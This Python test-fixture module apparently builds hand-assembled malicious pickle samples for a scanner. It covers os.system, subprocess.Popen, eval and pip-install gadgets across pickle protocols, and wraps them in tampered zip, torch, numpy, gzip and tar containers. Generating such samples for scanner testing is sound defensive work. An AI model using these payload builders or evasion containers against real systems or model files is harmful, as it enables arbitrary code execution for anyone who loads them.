"""Malicious samples for the scanner tests, assembled as raw bytes by hand (never by pickling objects).

A tiny pickle assembler (:class:`Asm`) writes the opcodes of protocol 0, 2 or 4 directly, and a tiny zip
writer (:func:`zip_bytes`) lays out archives byte by byte with knobs for each kind of tampering.  The
expected values (CRCs, offsets) are computed here with zlib and struct, independently of the scanner.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

PROTOCOLS = (0, 2, 4)


class Asm:
    """Pickle opcodes for one protocol: 0 (text), 2 (binary, GLOBAL), 4 (binary, STACK_GLOBAL, MEMOIZE)."""

    def __init__(self, proto: int) -> None:
        self.proto = proto
        self.memo = 0

    def header(self) -> bytes:
        return b"" if self.proto == 0 else bytes([0x80, self.proto])

    def string(self, s: str) -> bytes:
        raw = s.encode()
        if self.proto == 0:
            return b"S" + repr(s).encode() + b"\n"
        if self.proto == 2:
            return b"X" + struct.pack("<I", len(raw)) + raw
        return b"\x8c" + bytes([len(raw)]) + raw

    def glob(self, module: str, name: str) -> bytes:
        if self.proto < 4:
            return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
        return self.string(module) + self.string(name) + b"\x93"

    def put(self) -> tuple[bytes, int]:
        """Memoize the top of the stack; returns the opcode and the memo index used."""
        i = self.memo
        self.memo += 1
        if self.proto == 0:
            return b"p" + str(i).encode() + b"\n", i
        if self.proto == 2:
            return b"q" + bytes([i]), i
        return b"\x94", i

    def get(self, i: int) -> bytes:
        return b"g" + str(i).encode() + b"\n" if self.proto == 0 else b"h" + bytes([i])

    def tup(self, *items: bytes) -> bytes:
        if self.proto >= 2 and 1 <= len(items) <= 3:
            return b"".join(items) + bytes([0x84 + len(items)])
        return b"(" + b"".join(items) + b"t"

    def false(self) -> bytes:
        return b"I00\n" if self.proto == 0 else b"\x89"

    def empty_dict(self) -> bytes:
        return b"(d" if self.proto == 0 else b"}"

    def call(self, func: bytes, *args: bytes) -> bytes:
        return func + self.tup(*args) + b"R"


# --- payloads: each returns the body of one pickle (header to STOP) -----------------------------------------

def p_reduce(a: Asm, cmd: str) -> bytes:
    """The classic: os.system(cmd) through GLOBAL/STACK_GLOBAL + REDUCE."""
    return a.header() + a.call(a.glob("os", "system"), a.string(cmd)) + b"."


def p_memo_callable(a: Asm, cmd: str) -> bytes:
    """The callable is memoized, popped, and fetched back from the memo before the call."""
    put, i = a.put()
    return a.header() + a.glob("os", "system") + put + b"0" + a.get(i) + a.tup(a.string(cmd)) + b"R."


def p_memo_names(a: Asm, cmd: str) -> bytes:
    """STACK_GLOBAL whose module and name come from the memo (protocol 0/2: GLOBAL of posix.system via memo)."""
    if a.proto < 4:
        put, i = a.put()
        return a.header() + a.glob("posix", "system") + put + b"0" + a.get(i) + a.tup(a.string(cmd)) + b"R."
    p1, i1 = a.put()
    p2, i2 = a.put()
    return (a.header() + a.string("posix") + p1 + a.string("system") + p2 + b"00" + a.get(i1) + a.get(i2)
            + b"\x93" + a.tup(a.string(cmd)) + b"R.")


def p_inst(a: Asm, cmd: str) -> bytes:
    """INST: the class named inline, the arguments from the mark."""
    return a.header() + b"(" + a.string(cmd) + b"ios\nsystem\n."


def p_obj(a: Asm, cmd: str) -> bytes:
    """OBJ: the callable is the first item after the mark."""
    return a.header() + b"(" + a.glob("os", "system") + a.string(cmd) + b"o."


def p_dotted(a: Asm, cmd: str) -> bytes:
    """A dotted name walking module attributes: torch.serialization's os.system."""
    return a.header() + a.call(a.glob("torch", "serialization.os.system"), a.string(cmd)) + b"."


def p_runpy(a: Asm, cmd: str) -> bytes:
    return a.header() + a.call(a.glob("runpy", "_run_code"),
                               a.string(f"import os; os.system({cmd!r})"), a.empty_dict()) + b"."


def p_pip(a: Asm, cmd: str) -> bytes:
    return a.header() + a.call(a.glob("pip", "main"), a.tup(a.string("install"), a.string("evil-package"))) + b"."


def p_pydoc(a: Asm, cmd: str) -> bytes:
    """pydoc.locate('os.system') returns os.system, which is then called: a computed callable."""
    located = a.call(a.glob("pydoc", "locate"), a.string("os.system"))
    return a.header() + located + a.tup(a.string(cmd)) + b"R."


def p_partial_torch_load(a: Asm, cmd: str) -> bytes:
    """functools.partial(torch.load, 'evil.pt', weights_only=False), as partial's __reduce__ spells it."""
    func = a.glob("torch", "load")
    obj = a.call(a.glob("functools", "partial"), func)
    kwargs = a.empty_dict() + a.string("weights_only") + a.false() + b"s"
    state = a.tup(func, a.tup(a.string("evil.pt")), kwargs, b"N")
    return a.header() + obj + state + b"b."


def p_getattr(a: Asm, cmd: str) -> bytes:
    """builtins.getattr(os, 'system')(cmd): a gadget returning the real callable."""
    got = a.call(a.glob("builtins", "getattr"), a.glob("os", "path"), a.string("os"))
    return a.header() + got + a.tup(a.string(cmd)) + b"R."


def p_py2_names(a: Asm, cmd: str) -> bytes:
    """Python 2 spellings that the unpickler maps (__builtin__.eval)."""
    return a.header() + a.call(a.glob("__builtin__", "eval"), a.string(f"__import__('os').system({cmd!r})")) + b"."


def p_unknown_global(a: Asm, cmd: str) -> bytes:
    """A global outside every table: medium ("unknown global")."""
    return a.header() + a.call(a.glob("somepackage.helpers", "make_thing"), a.string(cmd)) + b"."


def p_newobj(a: Asm, cmd: str) -> bytes:
    """NEWOBJ of subprocess.Popen (protocol 2+; protocol 0 uses REDUCE of copyreg.__newobj__)."""
    args = a.tup(a.tup(a.string("touch"), a.string(cmd)))
    if a.proto < 2:
        return a.header() + a.call(a.glob("copyreg", "__newobj__"), a.glob("subprocess", "Popen"),
                                   a.tup(a.string("touch"), a.string(cmd))) + b"."
    return a.header() + a.glob("subprocess", "Popen") + args + b"\x81."


MALICIOUS: dict[str, Callable[[Asm, str], bytes]] = {
    "reduce": p_reduce,
    "memo-callable": p_memo_callable,
    "memo-names": p_memo_names,
    "inst": p_inst,
    "obj": p_obj,
    "dotted-name": p_dotted,
    "runpy": p_runpy,
    "pip": p_pip,
    "pydoc": p_pydoc,
    "partial-torch-load": p_partial_torch_load,
    "getattr": p_getattr,
    "py2-names": p_py2_names,
    "newobj": p_newobj,
}
#: Payloads that only reach medium (not a known gadget).
MEDIUM_ONLY: dict[str, Callable[[Asm, str], bytes]] = {"unknown-global": p_unknown_global}


# --- a zip writer with knobs -----------------------------------------------------------------------------------

@dataclass
class Member:
    name: str
    data: bytes
    #: 0 stored, 8 deflated
    method: int = 0
    #: torch's layout: sizes and CRC zero in the local header, a data descriptor after the data
    descriptor: bool = False
    flags: int = 0
    #: overrides for what the local header / central directory say (tampering)
    local_name: str | None = None
    cd_name: str | None = None
    crc: int | None = None
    cd_flags: int | None = None
    extra: bytes = b""
    listed: bool = True
    fields: dict[str, int] = field(default_factory=dict)


def zip_bytes(members: list[Member], *, prefix_cd_offset: int = 0, hidden: tuple[tuple[str, int], ...] = ()) -> bytes:
    """A zip archive laid out by hand.  ``hidden``: extra central-directory entries (name, local offset)."""
    out = io.BytesIO()
    cd = []
    for m in members:
        offset = out.tell()
        payload = m.data
        if m.method == 8:
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            payload = c.compress(m.data) + c.flush()
        crc = zlib.crc32(m.data) if m.crc is None else m.crc
        flags = m.flags | (0x08 if m.descriptor else 0)
        name = (m.local_name or m.name).encode()
        lcrc, lcs, lus = (0, 0, 0) if m.descriptor else (crc, len(payload), len(m.data))
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, m.method, 0, 0x21, lcrc, lcs, lus,
                              len(name), len(m.extra)))
        out.write(name + m.extra + payload)
        if m.descriptor:
            out.write(struct.pack("<IIII", 0x08074B50, crc, len(payload), len(m.data)))
        if m.listed:
            cname = (m.cd_name or m.name).encode()
            cflags = flags if m.cd_flags is None else m.cd_flags
            cd.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, cflags, m.method, 0, 0x21, crc,
                                  len(payload), len(m.data), len(cname), 0, 0, 0, 0, 0, offset) + cname)
    for hidden_name, offset in hidden:
        raw = hidden_name.encode()
        cd.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, 0, 0, 0, len(raw),
                              0, 0, 0, 0, 0, offset) + raw)
    start = out.tell()
    for entry in cd:
        out.write(entry)
    size = out.tell() - start
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(cd), len(cd), size, start + prefix_cd_offset, 0))
    return out.getvalue()


# --- containers: each wraps one malicious pickle ---------------------------------------------------------------

LEGACY_MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."  # LONG1 0x1950a86a20f9469cfc6c, as torch writes it
LEGACY_PROTOCOL = b"\x80\x02M\xe9\x03."  # 1001
LEGACY_SYS_INFO = b"\x80\x02}q\x00X\x0d\x00\x00\x00little_endianq\x01\x88s."
LEGACY_KEYS = b"\x80\x02]q\x00X\x01\x00\x00\x00" + b"0" + b"q\x01a."


def npy_object(payload: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def torch_zip(payload: bytes, *, name: str = "archive/data.pkl", **knobs: object) -> bytes:
    members = [
        Member(name, payload, descriptor=True, **knobs),  # type: ignore[arg-type]
        Member("archive/byteorder", b"little", descriptor=True),
        Member("archive/data/0", b"\x00" * 64, descriptor=True),
        Member("archive/version", b"3\n", descriptor=True),
    ]
    return zip_bytes(members)


def tar_of(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "raw": lambda p: p,
    "torch-zip": torch_zip,
    "torch-zip-odd-name": lambda p: torch_zip(p, name="archive/../weights\x00.bin"),
    "torch-zip-deflated": lambda p: zip_bytes([Member("archive/data.pkl", p, method=8, descriptor=True)]),
    "torch-zip-name-mismatch": lambda p: torch_zip(p, local_name="archive/notes.txt"),
    "torch-zip-encrypted-flag": lambda p: torch_zip(p, flags=0x01),
    "torch-zip-bad-crc": lambda p: zip_bytes([Member("archive/data.pkl", p, crc=0xDEADBEEF)]),
    "torch-zip-unlisted": lambda p: zip_bytes([Member("archive/data.pkl", b"\x80\x02}.", ),
                                              Member("archive/extra.pkl", p, listed=False)]),
    "legacy-torch": lambda p: LEGACY_MAGIC + LEGACY_PROTOCOL + LEGACY_SYS_INFO + p + LEGACY_KEYS
    + struct.pack("<Q", 4) + b"\x00" * 16,
    "legacy-torch-sys-info": lambda p: LEGACY_MAGIC + LEGACY_PROTOCOL + p + b"\x80\x02}." + LEGACY_KEYS,
    "npy-object": npy_object,
    "npz": lambda p: zip_bytes([Member("arr_0.npy", npy_object(p))]),
    "nested-zip": lambda p: zip_bytes([Member("inner.zip", zip_bytes([Member("deep/data.pkl", p)]))]),
    "nested-zip-deflated": lambda p: zip_bytes([Member("outer/inner.pt", torch_zip(p), method=8)]),
    "concatenated": lambda p: b"\x80\x02}q\x00." + p,
    "concatenated-text": lambda p: b"(dp0\n." + p,
    "gzip": lambda p: __import__("gzip").compress(p),
    "tar": lambda p: tar_of("pickle", p),
}
